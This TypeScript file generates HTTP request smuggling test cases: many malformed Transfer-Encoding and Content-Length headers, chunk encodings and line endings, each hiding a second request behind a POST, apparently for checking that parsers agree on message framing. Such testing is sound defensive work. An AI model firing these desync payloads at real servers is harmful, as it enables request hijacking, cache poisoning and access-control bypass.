// Requests that two parsers may split differently, from public collections (smuggler, HTTP Request Smuggler, http-garden, "Funky chunks"). A parser that
// finds the wrong end reads a request for the idea SMUGGLED.

const HIDDEN = 'GET /ideas/SMUGGLED HTTP/1.1\r\nHost: forum.test\r\n\r\n';

export interface SmuggledRequest {
  readonly title: string;
  readonly bytes: string;
}

interface Framing {
  readonly headers: string;
  readonly body: string;
  readonly version?: string;
}

/** `host` is in the request that all parsers read. */
export function smuggledRequests(host: string): readonly SmuggledRequest[] {
  const whole = ([title, { headers, body, version = 'HTTP/1.1' }]: readonly [string, Framing]) => ({
    title,
    bytes: `POST /register ${version}\r\nHost: ${host}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n${body}`,
  });
  return [...bothHeaders(), ...lengths(), ...chunks(), ...lines()].map(whole);
}

/** Spellings of `Transfer-Encoding: chunked` that only some parsers accept. */
const ENCODINGS: readonly string[] = [
  'Transfer-Encoding: chunked',
  'TrAnSFer-EnCODinG: cHuNkeD',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\r\n\tchunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding\n: chunked',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: x chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;x=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\r\rTransfer-Encoding: chunked',
  'X: y\0Transfer-Encoding: chunked',
  'X\r\nTransfer-Encoding: chunked',
  ': y\r\nTransfer-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: Content-Length\r\nTransfer-Encoding: chunked',
  ...[0x01, 0x08, 0x0b, 0x0c, 0x1f, 0x7f, 0x85, 0xa0, 0xff].flatMap((byte) => {
    const odd = String.fromCharCode(byte);
    return [
      `Transfer-Encoding${odd}: chunked`,
      `${odd}Transfer-Encoding: chunked`,
      `Transfer-Encoding:${odd}chunked`,
      `Transfer-Encoding: chunked${odd}`,
    ];
  }),
];

/**
 * Both a length and an encoding. By the length, the body is everything that follows; by the encoding, it ends before the hidden request.
 */
function bothHeaders(): readonly (readonly [string, Framing])[] {
  const body = `0\r\n\r\n${HIDDEN}`;
  const length = `Content-Length: ${body.length}`;
  return ENCODINGS.flatMap((encoding) => [
    [`a length, and ${JSON.stringify(encoding)}`, { headers: `${length}\r\n${encoding}`, body }],
    [`${JSON.stringify(encoding)}, and a length`, { headers: `${encoding}\r\n${length}`, body }],
    [
      `HTTP/1.0, a length, and ${JSON.stringify(encoding)}`,
      { headers: `${length}\r\n${encoding}`, body, version: 'HTTP/1.0' },
    ],
  ]);
}

/** A length that different parsers read as 2 or as everything that follows, without Transfer-Encoding. */
function lengths(): readonly (readonly [string, Framing])[] {
  const body = `{}${HIDDEN}`;
  const all = body.length;
  return [
    `Content-Length: ${all}\r\nContent-Length: 2`,
    `Content-Length: 2\r\nContent-Length: ${all}`,
    `Content-Length: 2, ${all}`,
    `Content-Length: ${all}, 2`,
    `Content-Length: ${all}, ${all}`,
    `Content-Length: +${all}`,
    `Content-Length: -${all}`,
    `Content-Length: 0x${all.toString(16)}`,
    `Content-Length: ${all};`,
    `Content-Length: ${all}.0`,
    `Content-Length: ${all}e0`,
    `Content-Length: "${all}"`,
    `Content-Length: 2 ${all}`,
    `Content-Length: ${all}\x0b`,
    `Content-Length: \x0c${all}`,
    `Content-Length: 18446744073709551618`,
    `Content-Length: 4294967298${'0'.repeat(40)}`,
    'Content-Length:',
    `Content-Length : ${all}`,
    `Content-Length\t: ${all}`,
    `Content-Length:\r\n ${all}`,
    `Content-Length:\n ${all}`,
    `Content-Length: 2\r\n ${all}`,
    `X: y\nContent-Length: ${all}`,
    `X: y\rContent-Length: ${all}`,
    ` Content-Length: ${all}`,
  ].map((headers) => [JSON.stringify(headers), { headers, body }]);
}

/** Chunked bodies whose chunks end elsewhere for a lenient parser. No strict parser finds a second request. */
function chunks(): readonly (readonly [string, Framing])[] {
  const headers = 'Transfer-Encoding: chunked';
  const size = HIDDEN.length.toString(16);
  const chunkVariants: readonly string[] = [
    // Some parsers end a size line at a bare line feed.
    `2;\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `2;x\n${'y'.repeat(size.length)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
    `2\n{}\n0\n\n${HIDDEN}`,
    `2\r{}\r0\r\r${HIDDEN}`,
    `2;a=\0\n{}\r\n0\r\n\r\n${HIDDEN}`,
    // Invalid or ambiguous sizes.
    `0x2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `+2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `-2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `2_0\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    ` 2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `2,0\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `\r\n2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `ffffffffffffffff2\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `10000000000000002\r\n{}\r\n0\r\n\r\n${HIDDEN}`,
    `;\r\n\r\n${HIDDEN}`,
    // Data that is longer or shorter than its size.
    `2\r\n{}XX0\r\n\r\n${HIDDEN}`,
    `2\r\n{}X\r\n0\r\n\r\n${HIDDEN}`,
    `2\r\n{}\n0\r\n\r\n${HIDDEN}`,
    `2\r\n{}0\r\n\r\n${HIDDEN}`,
    // The end of all chunks.
    `2\r\n{}\r\n0\r\n\n${HIDDEN}`,
    `2\r\n{}\r\n0\n\r\n${HIDDEN}`,
    `2\r\n{}\r\n0\r\nX y\r\n\r\n${HIDDEN}`,
    `2\r\n{}\r\n0\r\nX: y\n\r\n${HIDDEN}`,
    `2\r\n{}\r\n0\r\n X: y\r\n\r\n${HIDDEN}`,
    `2\r\n{}\r\n0 0\r\n\r\n${HIDDEN}`,
    `2\r\n{}\r\n-0\r\n\r\n${HIDDEN}`,
  ];
  return chunkVariants.map((body) => [`chunks ${JSON.stringify(body.slice(0, 24))}`, { headers, body }]);
}

/** Lines that end, or begin, in an unusual way. */
function lines(): readonly (readonly [string, Framing])[] {
  const body = `{}${HIDDEN}`;
  const length = `Content-Length: ${body.length}`;
  return [
    ['a bare line feed before the length', { headers: `X: y\n${length}`, body }],
    ['a bare carriage return before the end', { headers: `${length}\r`, body }],
    ['a second request line', { headers: `${length}\r\nGET / HTTP/1.1`, body }],
    ['a name with a space', { headers: `X Y: z\r\n${length}`, body }],
    ['a name with a NUL', { headers: `X\0: z\r\n${length}`, body }],
    ['a value with a NUL', { headers: `X: \0\r\n${length}`, body }],
    ['a folded value', { headers: `X: y\r\n z\r\n${length}`, body }],
    ['a version without a number', { headers: length, body, version: 'HTTP/x.1' }],
    ['a version with a space', { headers: length, body, version: 'HTTP/1.1 ' }],
    ['an expectation with a prefix', { headers: `Expect: y 100-continue\r\n${length}`, body }],
  ];
}
